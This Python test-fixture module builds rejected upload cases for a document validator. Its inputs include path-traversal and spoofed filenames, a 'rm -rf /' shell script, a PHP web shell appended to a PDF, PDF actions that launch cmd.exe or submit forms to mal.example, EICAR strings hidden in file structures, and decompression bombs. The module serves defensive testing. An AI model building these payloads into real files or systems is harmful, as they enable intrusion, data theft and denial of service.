"""What nobody honest sends: each with its name, its octets and a word of why it is refused."""

import struct
import zlib
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.data.controls.files.pieces import (
    blank,
    by_hand,
    changed,
    document,
    jpeg,
    pdf,
    png,
    saved,
    scan,
)

Case = tuple[str, bytes, str]

MEGABYTE = 1 << 20
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS" + b"-TEST-FILE!$H+H*"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><script>alert(document.cookie)</script></html>"
_PDF, _JPEG, _PNG = pdf(), jpeg(), png()


def archive(**members: bytes) -> bytes:
    held = BytesIO()
    with ZipFile(held, "w", ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    return held.getvalue()


def chunk(name: bytes, content: bytes) -> bytes:
    return (
        struct.pack(">I", len(content))
        + name
        + content
        + struct.pack(">I", zlib.crc32(name + content))
    )


@cache
def unfolding(octets: int, before: bytes = b"", *, of: bytes = b"\0") -> bytes:
    """A zlib stream of *before*, then *octets* times *of*: one block again and again.

    To fold hundreds of megabytes takes seconds of each process that collects these tests.
    """
    folder = zlib.compressobj(9)
    times, rest = divmod(octets, MEGABYTE)
    sum_of = zlib.adler32(before)
    folded = folder.compress(before) + folder.flush(zlib.Z_FULL_FLUSH)
    for block, count in ((of * MEGABYTE, times), (of * rest, 1)):
        folded += (folder.compress(block) + folder.flush(zlib.Z_FULL_FLUSH)) * count
        for _ in range(count):
            sum_of = zlib.adler32(block, sum_of)
    return folded + b"\x03\0" + struct.pack(">I", sum_of)  # a last block without anything


def huge_png(side: int) -> bytes:
    """A picture of *side* by *side* points in a few kilobytes."""
    rows = unfolding((side // 8 + 1) * side)
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return _PNG[:8] + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def overflowing_png(octets: int, *, interlaced: int = 0) -> bytes:
    """A hundred points a side, that unfold to *octets*: a reader that stops there sees nothing."""
    head = struct.pack(">IIBBBBB", 100, 100, 8, 2, 0, 0, interlaced)
    return _PNG[:8] + chunk(b"IHDR", head) + chunk(b"IDAT", unfolding(octets)) + chunk(b"IEND", b"")


def _carrying() -> bytes:
    """A stream that nothing leads to but the trailer, folded."""

    def hide(made: pikepdf.Pdf) -> None:
        made.Root.Extra = made.make_stream(EICAR + bytes(200))

    content = changed(hide)
    assert EICAR not in content
    return content


def _named() -> bytes:
    made = document("Mandat")
    made.Root.Extra = made.make_indirect(Dictionary(Said=String(EICAR.decode())))
    content = saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert EICAR not in content
    return content


def _worded() -> bytes:
    said = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(EICAR))
    return _PNG[:33] + said + _PNG[33:]


def _names() -> dict[str, Case]:
    wrong = {
        "folder": "../../etc/passwd.pdf",
        "root": "/etc/cron.d/mandat.pdf",
        "windows": "C:\\Windows\\mandat.pdf",
        "up and back": "..\\..\\mandat.pdf",
        "nul": "mandat.pdf\0.exe",
        "line": "mandat\r\nContent-Type: text/html.pdf",
        "turned": "mandat\u202efdp.exe.pdf",
        "from right to left": "mandat\u200ffdp.exe\u200e.pdf",
        "arabic mark": "mandat\u061c.pdf",
        "no width": "man\u200bdat.pdf",
        "half a sign": "mandat\ud800.pdf",
        "nothing": "",
        "blanks": "   ",
        "dots": "..",
        "long": "m" * 200 + ".pdf",
    }
    return {f"name, {case}": (name, _PDF, "nom") for case, name in wrong.items()}


def _types() -> dict[str, Case]:
    other = "ni un PDF"
    return {
        "empty": ("mandat.pdf", b"", "vide"),
        "too large": ("mandat.pdf", _PDF + b"\n" * (4 * 1024 * 1024), "trop"),
        "png named pdf": ("mandat.pdf", _PNG, "en réalité"),
        "pdf without its suffix": ("mandat", _PDF, "en réalité un fichier PDF"),
        "pdf named jpeg": ("mandat.jpg", _PDF, "en réalité"),
        "jpeg named png": ("mandat.png", _JPEG, "en réalité"),
        "no extension": ("mandat", _PDF, "en réalité"),
        "program after": ("mandat.pdf.exe", _PDF, "en réalité"),
        "program": ("mandat.pdf", b"MZ" + bytes(4000), other),
        "elf": ("mandat.png", b"\x7fELF" + bytes(4000), other),
        "shell": ("mandat.pdf", b"#!/bin/sh\nrm -rf /\n", other),
        "svg": ("mandat.svg", SVG, other),
        "svg named png": ("mandat.png", SVG, other),
        "html named pdf": ("mandat.pdf", HTML, other),
        "xml entities": ("mandat.pdf", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', other),
        "zip named pdf": ("mandat.pdf", archive(a=b"b"), other),
        "word named pdf": ("mandat.pdf", archive(**{"word/document.xml": b"<w/>"}), other),
        "gif named png": ("mandat.png", b"GIF89a" + bytes(100), other),
        "tiff named jpeg": ("mandat.jpg", b"II*\0" + bytes(100), other),
        "postscript": ("mandat.pdf", b"%!PS-Adobe-3.0\n(w) file\n", other),
        "heic": ("photo.heic", b"\0\0\0\x18ftypheic" + bytes(100), "HEIC"),
        "heic named jpeg": ("photo.jpg", b"\0\0\0\x18ftypmif1" + bytes(100), "HEIC"),
        "eicar": ("mandat.pdf", EICAR, "virus"),
        "eicar in a pdf": ("mandat.pdf", _PDF.replace(b"\n", b"\n%" + EICAR + b"\n", 1), "virus"),
        "eicar after a picture": ("mandat.jpg", _JPEG + EICAR, "virus"),
        "eicar in a stream of a pdf": ("mandat.pdf", _carrying(), "virus"),
        "eicar in packed objects": ("mandat.pdf", _named(), "virus"),
        "eicar in words of a picture": ("mandat.png", _worded(), "virus"),
        "eicar in a zip": ("mandat.pdf", archive(eicar=EICAR), other),
    }


def _polyglots() -> dict[str, Case]:
    hides = "autre chose"
    return {
        "pdf later": ("mandat.pdf", b"\n\n" + _PDF, "ni un PDF"),
        "pdf after a picture's sign": ("mandat.png", b"\x89PNG\r\n\x1a\n" + _PDF, hides),
        "pdf and zip": ("mandat.pdf", _PDF + archive(a=b"b"), hides),
        "pdf and zip and end": ("mandat.pdf", _PDF + archive(a=b"b") + b"\n%%EOF\n", hides),
        "pdf and html": ("mandat.pdf", _PDF + HTML, hides),
        "html in a comment of a pdf": (
            "mandat.pdf",
            _PDF.replace(b"\n", b"\n%" + HTML + b"\n", 1),
            hides,
        ),
        "php in a pdf": ("mandat.pdf", _PDF + b"<?php system($_GET[0]); ?>\n%%EOF", hides),
        "pdf and octets": ("mandat.pdf", _PDF + b"\x90" * 500, "abîmé"),
        "pdf and far octets": ("mandat.pdf", _PDF + b"\x90" * 5000, "abîmé"),
        "jpeg and zip": ("mandat.jpg", _JPEG + archive(a=b"b"), hides),
        "jpeg and rar": ("mandat.jpg", _JPEG + b"Rar!\x1a\x07\x01\0", hides),
        "jpeg and 7z": ("mandat.jpg", _JPEG + b"7z\xbc\xaf\x27\x1c", hides),
        "jpeg and pdf": ("mandat.jpg", _JPEG + _PDF, hides),
        "jpeg and html": ("mandat.jpg", _JPEG + HTML, hides),
        "script in a jpeg's comment": ("mandat.jpg", jpeg(comment=HTML), hides),
        "png and zip": ("mandat.png", _PNG + archive(a=b"b"), hides),
        "png and svg": ("mandat.png", _PNG + SVG, hides),
        "png and octets": ("mandat.png", _PNG + b"abc", "abîmé"),
        "two ends of a png": ("mandat.png", _PNG + b"abc" + _PNG[-12:], "abîmé"),
        "script in a png's text": (
            "mandat.png",
            _PNG[:33] + chunk(b"tEXt", b"Comment\0" + HTML) + _PNG[33:],
            hides,
        ),
    }


def _damaged() -> dict[str, Case]:
    half = {
        f"{name} cut at {part}": (name, content[: len(content) * part // 10], "abîmé")
        for name, content in (("mandat.pdf", _PDF), ("mandat.jpg", _JPEG), ("mandat.png", _PNG))
        for part in (3, 6, 9)
    }
    flipped = bytearray(_PNG)
    flipped[len(flipped) // 2] ^= 0xFF
    return {
        **half,
        "a sign alone, pdf": ("mandat.pdf", b"%PDF-", "abîmé"),
        "a sign alone, jpeg": ("mandat.jpg", b"\xff\xd8\xff", "abîmé"),
        "a sign alone, png": ("mandat.png", _PNG[:8], "abîmé"),
        "a sign and an end, pdf": ("mandat.pdf", b"%PDF-1.7\n%%EOF", "abîmé"),
        "a sign and an end, jpeg": ("mandat.jpg", b"\xff\xd8\xff\xd9", "abîmé"),
        "a sign and an end, png": ("mandat.png", _PNG[:8] + _PNG[-12:], "abîmé"),
        "noise, pdf": ("mandat.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 9 + b"%%EOF", "abîmé"),
        "noise, jpeg": (
            "mandat.jpg",
            b"\xff\xd8\xff" + bytes(range(256)) * 9 + b"\xff\xd9",
            "abîmé",
        ),
        "a flipped png": ("mandat.png", bytes(flipped), "abîmé"),
        "a table that lies": ("mandat.pdf", _PDF.replace(b"startxref\n", b"startxref\n9"), "abîmé"),
        "a loop of tables": (
            "mandat.pdf",
            _PDF.replace(b"/Size", b"/Prev 9999999 /Size", 1),
            "abîmé",
        ),
    }


def _acting(action: Dictionary) -> bytes:
    return changed(lambda made: made.Root.__setitem__("/OpenAction", action))


def _scripted(made: pikepdf.Pdf) -> None:
    """A script that only the names of the document lead to."""
    said = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), said])))


def _annotated(made: pikepdf.Pdf) -> None:
    """A button whose action is deep in a chain, in dictionaries without a number."""
    last = Dictionary(S=Name.URI, URI=String("https://tilleuls.example"))
    last.Next = Array([Dictionary(S=Name.Launch, F=String("cmd.exe"))])
    made.pages[0].Annots = Array(
        [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=last)]
    )


def _attached(made: pikepdf.Pdf) -> None:
    made.attachments["virus.exe"] = pikepdf.AttachedFileSpec(made, b"MZ" + bytes(100))


def _orphan(made: pikepdf.Pdf) -> None:
    """A file inside that nothing leads to but its number."""
    made.Root.Kept = made.make_stream(b"MZ", Type=Name.EmbeddedFile)


def _form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))


def _active() -> dict[str, Case]:
    scripts, joined = "scripts", "joints"
    return {
        "script on opening": (
            "mandat.pdf",
            _acting(Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))),
            scripts,
        ),
        "script by its name": ("mandat.pdf", changed(_scripted), scripts),
        "program launched": (
            "mandat.pdf",
            _acting(Dictionary(S=Name.Launch, F=String("cmd.exe"))),
            scripts,
        ),
        "program deep": ("mandat.pdf", changed(_annotated), scripts),
        "form sent": (
            "mandat.pdf",
            _acting(Dictionary(S=Name.SubmitForm, F=String("https://mal.example"))),
            scripts,
        ),
        "data imported": (
            "mandat.pdf",
            _acting(Dictionary(S=Name.ImportData, F=String("/etc/passwd"))),
            scripts,
        ),
        "xfa": ("mandat.pdf", changed(_form), scripts),
        "file inside": ("mandat.pdf", changed(_attached), joined),
        "file without a way": ("mandat.pdf", changed(_orphan), joined),
        "script in other letters": (
            "mandat.pdf",
            blank(b"/OpenAction << /S /J#61vaScr#69pt /#4a#53 (app.alert\\(1\\)) >>"),
            scripts,
        ),
        "launched in other letters": ("mandat.pdf", blank(b"", b"<< /S /L#61unch >>"), scripts),
        "file in other letters": (
            "mandat.pdf",
            blank(b"", b"<< /Type /F#69lespec /E#46 << /F 3 0 R >> >>"),
            joined,
        ),
        "script twice over": (
            "mandat.pdf",
            blank(b"/OpenAction [[<< /A << /B [<< /S /JavaScript >>] >> >>]]"),
            scripts,
        ),
        "script packed": (
            "mandat.pdf",
            _packed(_scripted),
            scripts,
        ),
        **{
            f"reaches out, {case}": ("mandat.pdf", blank(*objects), scripts)
            for case, objects in _REACHING.items()
        },
    }


_AWAY = rb"(\\\\mal.example\\x.pdf)"
_REACHING = {
    "address on opening": (b"/OpenAction << /S /URI /URI (https://mal.example) >>",),
    "address on opening, further": (
        b"/OpenAction 4 0 R",
        b"<< /S /URI /URI (tel:1) >>",
    ),
    "address after a move": (
        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (tel:1) >> >>",
    ),
    "address of a page": (b"", b"<< /AA << /O << /S /URI /URI (https://mal.example) >> >> >>"),
    "other document": (b"/OpenAction << /S /GoToR /F %s /D [0 /Fit] >>" % _AWAY,),
    "other document, pressed": (b"", b"<< /Subtype /Link /A << /S /GoToR /F %s >> >>" % _AWAY),
    "document inside another": (b"", b"<< /S /GoToE /F %s >>" % _AWAY),
    "thread of another": (b"", b"<< /S /Thread /F %s >>" % _AWAY),
    "film": (b"", b"<< /S /Movie /T (a) >>"),
    "film on a page": (b"", b"<< /Subtype /Movie /Movie << /F %s >> >>" % _AWAY),
    "sound": (b"", b"<< /S /Sound >>"),
    "file at an address": (b"", b"<< /FS /URL /F (https://mal.example) >>"),
    "file on a share": (b"", b"<< /Type /Filespec /F %s >>" % _AWAY),
    "octets elsewhere": (b"", b"<< /Length 0 /F %s >>\nstream\n\nendstream" % _AWAY),
    "page elsewhere": (b"", b"<< /Ref << /F %s /Page 0 >> >>" % _AWAY),
    "link to a share": (b"", b"<< /Subtype /Link /A << /S /URI /URI %s >> >>" % _AWAY),
    "blank, link to a share": (b"", rb"<< /S /URI /URI ( \\\\mal\\share) >>"),
    "tab, link to a share": (b"", rb"<< /S /URI /URI (\\\t\\mal) >>"),
    "link to a file": (b"", b"<< /S /URI /URI (file:///etc/passwd) >>"),
    "base of links": (b"/URI << /Base (file://mal.example/) >>",),
}


def _packed(change) -> bytes:
    """With its objects in compressed streams, where no search for words finds them."""
    made = document("Mandat")
    change(made)
    return saved(made, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _bomb(layers: int) -> bytes:
    """A stream that is thousands of times larger once unpacked, *layers* times over."""
    content = unfolding(200 * MEGABYTE)
    for _ in range(layers - 1):
        content = zlib.compress(content, 9)
    made = document("Mandat")
    made.Root.Kept = made.make_stream(b"")
    made.Root.Kept.write(content, filter=Array([Name.FlateDecode] * layers))
    kept = pikepdf.StreamDecodeLevel.none  # else each layer is unpacked, and packed again
    return saved(made, compress_streams=False, stream_decode_level=kept)


def _forms(last: bytes, layers: int = 9, width: int = 10) -> bytes:
    """A page that draws a form ten times, which draws another ten times: 10⁹ things to do."""
    made = document("Mandat")
    font = made.pages[0].Resources.Font
    drawn, inside = last, Dictionary(Font=font)
    for _ in range(layers):
        form = made.make_stream((drawn + b"\n") * width, Resources=inside)
        form.Type, form.Subtype, form.BBox = Name.XObject, Name.Form, Array([0, 0, 595, 842])
        drawn, inside = b"/X Do", Dictionary(XObject=Dictionary(X=form))
    made.pages[0].Resources = inside
    made.pages[0].Contents = made.make_stream(drawn)
    return saved(made)


def _packed_bomb() -> bytes:
    """A stream of objects, which a reader unpacks as soon as it opens the document."""
    content = _packed(_scripted)
    at = content.index(b"/ObjStm")
    start = content.index(b"stream\n", at) + len(b"stream\n")
    stop = content.index(b"endstream", start)
    body = unfolding(200 * MEGABYTE, zlib.decompress(content[start:stop]), of=b" ")
    head = content[:start].rpartition(b"/Length ")
    length = head[2].split(b" ", 1)[0].split(b">", 1)[0]
    new = head[0] + head[1] + str(len(body)).encode() + head[2][len(length) :]
    moved = new + body + b"\n" + content[stop:]
    table = moved.rindex(b" obj", 0, moved.index(b"/XRef"))
    table = moved.rindex(b"\n", 0, table) + 1
    before, _word, _after = moved.rpartition(b"startxref\n")
    return before + b"startxref\n" + str(table).encode() + b"\n%%EOF\n"


def vast(**options: object) -> bytes:
    """A small picture that says it is 65,000 points wide and high."""
    content = bytearray(jpeg(**options))
    at = content.index(b"\xff\xc2" if options else b"\xff\xc0")
    content[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(content)


def _deep() -> bytes:
    """Arrays in arrays, further than any reader follows."""
    return _PDF.replace(b"/Type /Catalog", b"/A " + b"[" * 9000 + b"]" * 9000 + b" /Type /Catalog")


def _bounds() -> dict[str, Case]:
    locked = pikepdf.Encryption(owner="secret", user="", R=6)
    shut = pikepdf.Encryption(owner="secret", user="secret", R=6)
    old = pikepdf.Encryption(owner="secret", user="secret", R=3, aes=False, metadata=False)
    empty = pikepdf.new()
    empty.Root.Pages.Count = 0
    return {
        "encrypted": ("mandat.pdf", pdf(encryption=shut), "protégé"),
        "encrypted, old": ("mandat.pdf", pdf(encryption=old), "protégé"),
        "restricted": ("mandat.pdf", pdf(encryption=locked), "protégé"),
        "no page": ("mandat.pdf", saved(empty), "aucune page"),
        "bomb of a pdf": ("mandat.pdf", _bomb(1), "trop volumineux"),
        "bomb in a bomb": ("mandat.pdf", _bomb(2), "trop volumineux"),
        "bomb of objects": ("mandat.pdf", _packed_bomb(), "abîmé"),
        "png that unfolds past its picture": (
            "mandat.png",
            overflowing_png(200 << 20),
            "trop volumineux",
        ),
        "png in passes that does": (
            "mandat.png",
            overflowing_png(200 << 20, interlaced=1),
            "trop volumineux",
        ),
        "bomb of a png": ("mandat.png", huge_png(8_000), "trop volumineux"),
        "forms in forms": ("mandat.pdf", _forms(b"0 0 500 500 re f"), "trop volumineux"),
        "words in forms": ("mandat.pdf", _forms(b"BT /F1 9 Tf (PCE) Tj ET"), "trop volumineux"),
        "larger bomb of a png": ("mandat.png", huge_png(20_000), "trop volumineux"),
        "vast jpeg": ("mandat.jpg", vast(), "trop volumineux"),
        "vast jpeg, by layers": ("mandat.jpg", vast(progressive=True), "trop volumineux"),
        "vast jpeg in a pdf": ("mandat.pdf", scan(vast()), "abîmé"),
        "cut jpeg in a pdf": ("mandat.pdf", scan(_JPEG[:-500]), "abîmé"),
        "pages in a loop": (
            "mandat.pdf",
            by_hand(
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
            ),
            "abîmé",
        ),
        "a length without end": (
            "mandat.pdf",
            blank(b"", b"<< /Length 99999999999 >>\nstream\nabc\nendstream"),
            "abîmé",
        ),
        "script past a fault": (
            "mandat.pdf",
            blank(
                b"/OpenAction 4 0 R",
                b"<< /S /JavaScript /JS (a) /Length 999 >>\nstream\nabc\nendstream",
            ),
            "abîmé",
        ),
        "script under a second key": (
            "mandat.pdf",
            blank(b"/OpenAction << /S /JavaScript /S /GoTo >>"),
            "abîmé",
        ),
        "deep pdf": ("mandat.pdf", _deep(), "abîmé"),
    }


CASES: dict[str, Case] = {
    **_names(),
    **_types(),
    **_polyglots(),
    **_damaged(),
    **_active(),
    **_bounds(),
}
